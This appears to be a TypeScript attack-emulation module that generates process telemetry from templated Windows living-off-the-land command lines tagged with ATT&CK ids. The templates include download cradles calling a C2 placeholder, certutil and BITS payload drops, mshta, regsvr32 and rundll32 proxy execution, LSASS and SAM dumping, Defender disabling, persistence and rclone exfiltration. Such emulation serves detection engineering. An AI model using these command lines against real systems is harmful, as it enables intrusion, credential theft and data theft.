// The embedded attack library: project-written command templates for living-off-the-land tradecraft,
// grouped into scenarios (initial execution + follow-ups). Technique ids are MITRE ATT&CK.

import { adHocBinary } from './catalog.js';
import type { AttackCtx } from './attack-ctx.js';
import type { Proc } from './types.js';

/** A step body runs under `parent` and returns the process later steps should hang off (or `parent`). */
export type Body = (c: AttackCtx, parent: Proc) => Proc;

function b64utf16(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

function payloadName(c: AttackCtx): string {
  return c.h.rng.pick(['OneDriveUpdater', 'msupdate', 'AdobeSync', 'chromeinstall', 'winhelper', 'TeamsSvc', 'dllhost32']);
}

export const cradle: Body = (c, p) => {
  const script = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${c.c2}/${c.h.rng.alnum(6)}/a.ps1')`;
  return c.run(p, 'powershell.exe', `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${b64utf16(script)}`, ['T1059.001', 'T1027', 'T1105']);
};

export const certutilDrop: Body = (c, p) => {
  const r = c.h.rng;
  const name = payloadName(c);
  const tmp = `${c.profile}\\AppData\\Local\\Temp`;
  const sh = c.run(p, 'cmd.exe', `cmd.exe /c certutil -urlcache -split -f https://${c.c2}/dl/${r.alnum(8)}.txt "${tmp}\\${name}.b64" && certutil -decode "${tmp}\\${name}.b64" "${tmp}\\${name}.exe"`, ['T1059.003']);
  c.run(sh, 'certutil.exe', `certutil  -urlcache -split -f https://${c.c2}/dl/${r.alnum(8)}.txt "${tmp}\\${name}.b64"`, ['T1105']);
  c.run(sh, 'certutil.exe', `certutil  -decode "${tmp}\\${name}.b64" "${tmp}\\${name}.exe"`, ['T1140']);
  return c.run(p, adHocBinary(`${name}.exe`, tmp, `${name}.exe`), `"${tmp}\\${name}.exe" `, ['T1204.002']);
};

export const bitsDrop: Body = (c, p) => {
  const name = payloadName(c);
  const dst = `C:\\Users\\Public\\${name}.exe`;
  c.run(p, 'bitsadmin.exe', `bitsadmin  /transfer ${c.h.rng.alnum(6)} /download /priority foreground https://${c.c2}/${name}.exe ${dst}`, ['T1197', 'T1105']);
  return c.run(p, adHocBinary(`${name}.exe`, 'C:\\Users\\Public', `${name}.exe`), dst, ['T1204.002']);
};

export const mshtaInline: Body = (c, p) =>
  c.run(p, 'mshta.exe', `mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w 1 -c iex(irm https://${c.c2}/s)"",0:close")`, ['T1218.005', 'T1059.005']);

export const mshtaRemote: Body = (c, p) => c.run(p, 'mshta.exe', `mshta.exe https://${c.c2}/doc/${c.h.rng.alnum(5)}.hta`, ['T1218.005']);

export const regsvr32Sct: Body = (c, p) =>
  c.run(p, 'regsvr32.exe', `regsvr32.exe /s /n /u /i:https://${c.c2}/${c.h.rng.alnum(4)}.sct scrobj.dll`, ['T1218.010']);

export const rundll32Js: Body = (c, p) =>
  c.run(p, 'rundll32.exe', `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";o=GetObject("script:https://${c.c2}/r.sct");close();`, ['T1218.011']);

export const rundll32Dll: Body = (c, p) => {
  const dll = `${c.profile}\\AppData\\Roaming\\${c.h.rng.alnum(7)}.dat`;
  return c.run(p, 'rundll32.exe', `rundll32.exe "${dll}",${c.h.rng.pick(['DllRegisterServer', 'Start', '#1', 'Control_RunDLL'])}`, ['T1218.011']);
};

export const wmicCreate: Body = (c, p) => {
  c.run(p, 'wmic.exe', `wmic  process call create "powershell.exe -nop -w hidden -c iex(irm https://${c.c2}/w)"`, ['T1047']);
  const wmi = c.run(c.h.svchost('DcomLaunch'), 'WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', ['T1047'], { account: c.h.org.networkService });
  return c.run(wmi, 'powershell.exe', `powershell.exe  -nop -w hidden -c iex(irm https://${c.c2}/w)`, ['T1047', 'T1059.001']);
};

export const discovery: Body = (c, p) => {
  const r = c.h.rng;
  const dom = c.h.org.domain;
  const cmds: Array<[string, string, string[]]> = [
    ['whoami.exe', 'whoami  /all', ['T1033']], ['net.exe', 'net  user /domain', ['T1087.002']],
    ['net.exe', 'net  group "Domain Admins" /domain', ['T1069.002']], ['nltest.exe', 'nltest  /domain_trusts /all_trusts', ['T1482']],
    ['nltest.exe', `nltest  /dclist:${dom}`, ['T1018']], ['ipconfig.exe', 'ipconfig  /all', ['T1016']], ['systeminfo.exe', 'systeminfo ', ['T1082']],
    ['tasklist.exe', 'tasklist  /v', ['T1057']], ['quser.exe', 'quser ', ['T1033']], ['net.exe', 'net  localgroup administrators', ['T1069.001']],
  ];
  const n = r.int(3, 6);
  const start = r.int(0, cmds.length - 1);
  const sh = c.run(p, 'cmd.exe', 'C:\\Windows\\system32\\cmd.exe', ['T1059.003']);
  for (let i = 0; i < n; i++) {
    const [b, cmd, tech] = cmds[(start + i) % cmds.length];
    const x = c.run(sh, b, cmd, tech);
    if (b === 'net.exe') c.run(x, 'net1.exe', `C:\\Windows\\system32\\net1 ${cmd.slice(5)}`, tech);
  }
  return p;
};

export const runKey: Body = (c, p) => {
  const name = c.h.rng.pick(['OneDriveSync', 'AdobeUpdater', 'SecurityHealthTray', 'WinDefendHelper']);
  c.run(p, 'reg.exe', `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /t REG_SZ /d "C:\\Users\\Public\\${name}.exe" /f`, ['T1547.001']);
  return p;
};

export const schtask: Body = (c, p) => {
  const name = c.h.rng.pick(['MicrosoftEdgeUpdateCore', 'GoogleUpdateTaskUser', 'OneDrive Reporting', 'SystemHealthCheck']);
  c.run(p, 'schtasks.exe', `schtasks  /create /sc onlogon /tn "${name}" /tr "${c.profile}\\AppData\\Roaming\\Microsoft\\${c.h.rng.alnum(6)}.exe" /rl highest /f`, ['T1053.005']);
  return p;
};

export const procdumpLsass: Body = (c, p) => {
  c.run(p, 'procdump64.exe', `C:\\Users\\Public\\procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\${c.h.rng.alnum(5)}.dmp`, ['T1003.001'], { elevated: true });
  return p;
};

export const comsvcsDump: Body = (c, p) => {
  c.run(p, 'rundll32.exe', `C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ${c.h.rng.int(150, 300) * 4} C:\\Windows\\Temp\\${c.h.rng.alnum(6)}.dmp full`, ['T1003.001'], { elevated: true });
  return p;
};

export const regSave: Body = (c, p) => {
  c.run(p, 'reg.exe', 'reg  save hklm\\sam C:\\Users\\Public\\s.hiv /y', ['T1003.002'], { elevated: true });
  c.run(p, 'reg.exe', 'reg  save hklm\\system C:\\Users\\Public\\y.hiv /y', ['T1003.002'], { elevated: true });
  return p;
};

/** A payload named like a Windows binary, or a renamed tool whose PE name gives it away. */
export const masquerade: Body = (c, p) => {
  const r = c.h.rng;
  const v = r.int(0, 2);
  if (v === 0) {
    const dir = `${c.profile}\\AppData\\Roaming\\Microsoft\\Windows`;
    return c.run(p, adHocBinary('svch0st.exe', dir, 'svch0st.exe'), `"${dir}\\svch0st.exe" -k netsvcs`, ['T1036.005']);
  }
  if (v === 1) {
    const dir = r.pick(['C:\\Users\\Public', `${c.profile}\\AppData\\Local\\Temp`]);
    return c.run(p, adHocBinary('svchost.exe', dir, 'agent.exe'), `"${dir}\\svchost.exe" -k LocalService`, ['T1036.005']);
  }
  const dir = 'C:\\ProgramData\\Microsoft\\Crypto';
  c.run(p, adHocBinary('winupd.exe', dir, 'rclone.exe'), `"${dir}\\winupd.exe" copy C:\\Users\\${c.user.profile}\\Documents remote:${r.alnum(6)} --max-age 1y --transfers 8 -q`, ['T1036.003', 'T1567.002']);
  return p;
};

export const defenderOff: Body = (c, p) => {
  c.run(p, 'powershell.exe', 'powershell.exe  -c "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"', ['T1562.001'], { elevated: true });
  return p;
};

export const ALL_BODIES: Record<string, Body> = {
  cradle, certutilDrop, bitsDrop, mshtaInline, mshtaRemote, regsvr32Sct, rundll32Js, rundll32Dll, wmicCreate, discovery,
  runKey, schtask, procdumpLsass, comsvcsDump, regSave, masquerade, defenderOff,
};

export type LauncherName = 'office-macro' | 'explorer-script' | 'wmi' | 'service' | 'script-host' | 'runner-cmd' | 'runner-ps' | 'runner-stdin';

export interface Template {
  slug: string;
  launchers: LauncherName[];
  /** Initial execution, then follow-ups; each entry names a body, and `>` means: run under the previous result. */
  steps: string[];
}

export const TEMPLATES: readonly Template[] = [
  { slug: 'office-macro-cradle', launchers: ['office-macro'], steps: ['cradle', '>discovery', '>runKey'] },
  { slug: 'office-macro-certutil', launchers: ['office-macro'], steps: ['certutilDrop', '>discovery', '>schtask'] },
  { slug: 'script-mshta-regsvr32', launchers: ['explorer-script', 'script-host'], steps: ['mshtaInline', 'regsvr32Sct', 'discovery'] },
  { slug: 'rundll32-proxy', launchers: ['explorer-script', 'office-macro'], steps: ['rundll32Js', 'rundll32Dll', 'discovery'] },
  { slug: 'wmi-payload-credential', launchers: ['wmi'], steps: ['cradle', 'comsvcsDump', 'regSave'] },
  { slug: 'service-discovery-procdump', launchers: ['service'], steps: ['discovery', 'procdumpLsass', 'runKey'] },
  { slug: 'bits-masquerade-persist', launchers: ['script-host', 'office-macro'], steps: ['bitsDrop', '>discovery', 'masquerade', 'schtask'] },
  { slug: 'wmic-lolbin-chain', launchers: ['explorer-script'], steps: ['wmicCreate', '>discovery', 'defenderOff'] },
  { slug: 'mshta-remote-hta', launchers: ['explorer-script'], steps: ['mshtaRemote', 'certutilDrop', '>runKey'] },
  { slug: 'test-runner', launchers: ['runner-cmd', 'runner-ps', 'runner-stdin'], steps: ['discovery', 'regSave', 'masquerade', 'schtask'] },
];
